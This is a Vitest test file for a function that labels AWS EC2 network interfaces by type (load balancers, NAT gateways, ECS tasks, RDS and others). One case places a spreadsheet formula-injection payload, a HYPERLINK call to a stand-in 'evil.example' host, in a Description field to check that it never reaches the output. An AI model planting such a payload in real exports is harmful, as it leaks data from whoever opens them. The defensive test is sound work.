import type { NetworkInterface } from '@aws-sdk/client-ec2';
import { describe, expect, it } from 'vitest';
import { interfaceTypeOf } from '../../../src/analyze/interfaceType.js';
import { owningService } from '../../../src/analyze/owningService.js';
import { CRAFTED_DESCRIPTIONS } from '../../../__fixtures__/craftedDescriptions.js';

/** The InterfaceType column as the analysis writes it: from the interface and its owner. */
const typeOf = (eni: NetworkInterface) => interfaceTypeOf(eni, owningService(eni));

// An interface with only the fields that decide its type.
function iface(fields: Partial<NetworkInterface>): NetworkInterface {
  return { NetworkInterfaceId: 'eni-1', ...fields };
}

describe('interfaceTypeOf', () => {
  it.each([
    ['network_load_balancer', 'Network Load Balancer'],
    ['nat_gateway', 'NAT Gateway'],
    ['natGateway', 'NAT Gateway'],
    ['efa', 'Elastic Fabric Adapter'],
    ['trunk', 'Trunk ENI'],
    ['load_balancer', 'Application Load Balancer'],
    ['vpc_endpoint', 'PrivateLink Endpoint'],
    ['branch', 'Branch ENI'],
    ['transit_gateway', 'Transit Gateway Attachment ENI'],
    ['lambda', 'Lambda Function Interface'],
    ['quicksight', 'Quicksight Interface'],
    ['global_accelerator_managed', 'Global Accelerator Private Access Interface'],
    ['api_gateway_managed', 'API Gateway'],
    ['gateway_load_balancer', 'Gateway Load Balancer'],
    ['gateway_load_balancer_endpoint', 'Gateway Load Balancer Endpoint'],
    ['iot_rules_managed', 'IoT'],
    ['aws_codestar_connections_managed', 'CodeStar'],
  ])('InterfaceType %s -> %s, attached or not', (interfaceType, expected) => {
    // The SDK's enum lacks `nat_gateway`, which AWS does return.
    const type = interfaceType as NetworkInterface['InterfaceType'];
    expect(typeOf(iface({ InterfaceType: type }))).toBe(expected);
    expect(
      typeOf(
        iface({
          InterfaceType: type,
          Attachment: { InstanceId: 'i-1' },
          Description: 'arn:aws:ecs:us-east-1:1:attachment/x',
        }),
      ),
    ).toBe(expected);
  });

  it.each<[string, Partial<NetworkInterface>, string]>([
    [
      'attached to an instance',
      { InterfaceType: 'interface', Attachment: { InstanceId: 'i-1' }, Description: 'a b c' },
      'EC2 Instance',
    ],
    [
      'amazon-elb owned, ELB app/ description',
      {
        InterfaceType: 'interface',
        Attachment: { AttachmentId: 'ela-attach-1' },
        Association: { IpOwnerId: 'amazon-elb', PublicIp: '34.0.0.1' },
        Description: 'ELB app/my-alb/50dc6c495c0c9188',
      },
      'Application Load Balancer',
    ],
    [
      'amazon-elb owned, classic description',
      {
        InterfaceType: 'interface',
        Attachment: { AttachmentId: 'ela-attach-1' },
        Association: { IpOwnerId: 'amazon-elb', PublicIp: '34.0.0.1' },
        Description: 'ELB my-classic-elb',
      },
      'Classic Load Balancer',
    ],
    [
      'amazon-elb owned without a description',
      {
        Attachment: { AttachmentId: 'ela-attach-1' },
        Association: { IpOwnerId: 'amazon-elb' },
      },
      'Classic Load Balancer',
    ],
    [
      'an ECS task on Fargate (an attachment ARN), not its first words or "ecs"',
      {
        InterfaceType: 'interface',
        Attachment: { AttachmentId: 'ela-attach-1', InstanceOwnerId: '794321122735' },
        Association: { IpOwnerId: 'amazon', PublicIp: '3.0.0.1' },
        Description: 'arn:aws:ecs:us-east-1:123456789012:attachment/8d2f-4c3a',
        RequesterManaged: true,
      },
      'ECS Task',
    ],
    [
      'an RDS instance',
      {
        InterfaceType: 'interface',
        Attachment: { AttachmentId: 'ela-attach-1', InstanceOwnerId: 'amazon-rds' },
        Description: 'RDSNetworkInterface',
        RequesterId: 'amazon-rds',
        RequesterManaged: true,
      },
      'RDS DB Instance',
    ],
    [
      'a requester-managed WorkSpace: never "Created By"',
      {
        InterfaceType: 'interface',
        Attachment: { AttachmentId: 'ela-attach-1' },
        Description: 'Created By Amazon Workspaces for AWS Account ID 123456789012',
        RequesterManaged: true,
      },
      'WorkSpaces',
    ],
    [
      'an EKS Auto Mode node is still an EC2 instance (ManagedBy says whose)',
      {
        InterfaceType: 'interface',
        Attachment: { InstanceId: 'i-1' },
        Operator: { Managed: true, Principal: 'eks.amazonaws.com' },
      },
      'EC2 Instance',
    ],
    [
      'an ALB known by its address alone (ServiceManaged alb is in owningService.test)',
      {
        InterfaceType: 'interface',
        Attachment: { AttachmentId: 'ela-attach-1' },
        Association: { IpOwnerId: 'amazon-elb' },
        Description: 'ELB app/a/0123456789abcdef',
      },
      'Application Load Balancer',
    ],
    [
      'an unknown ARN in the description: its service is not guessed from user text',
      {
        Attachment: { AttachmentId: 'a' },
        Description: 'arn:aws-us-gov:elasticfilesystem:us-gov-west-1:1:file-system/fs-1',
      },
      'Unknown Resource Type',
    ],
    [
      'a formula in the description never reaches the column',
      {
        InterfaceType: 'interface',
        Attachment: { AttachmentId: 'a' },
        Description: '=HYPERLINK("https://evil.example/?leak","Open") now',
      },
      'Unknown Resource Type',
    ],
    [
      'a one-word description',
      { InterfaceType: 'interface', Attachment: { AttachmentId: 'a' }, Description: 'mystery' },
      'Unknown Resource Type',
    ],
    [
      'attached without a description',
      { InterfaceType: 'interface', Attachment: { AttachmentId: 'a' } },
      'Unknown Resource Type',
    ],
    [
      'not attached, InterfaceType interface',
      { InterfaceType: 'interface', Description: 'left over from a test' },
      'Unattached ENI',
    ],
    ['not attached, no InterfaceType', { Description: 'left over' }, 'Unknown Resource Type'],
    [
      'not attached, efa-only (no name for it)',
      { InterfaceType: 'efa-only' },
      'Unknown Resource Type',
    ],
  ])('%s', (_case, fields, expected) => {
    expect(typeOf(iface(fields))).toBe(expected);
  });
});

describe('interfaceTypeOf an interface the account manages itself', () => {
  it.each(CRAFTED_DESCRIPTIONS)(
    'a %s description leaves an instance interface an EC2 Instance',
    (_s, description) => {
      expect(
        typeOf(
          iface({
            InterfaceType: 'interface',
            RequesterManaged: false,
            Description: description,
            Attachment: { InstanceId: 'i-1', InstanceOwnerId: '222222222222' },
          }),
        ),
      ).toBe('EC2 Instance');
    },
  );
});
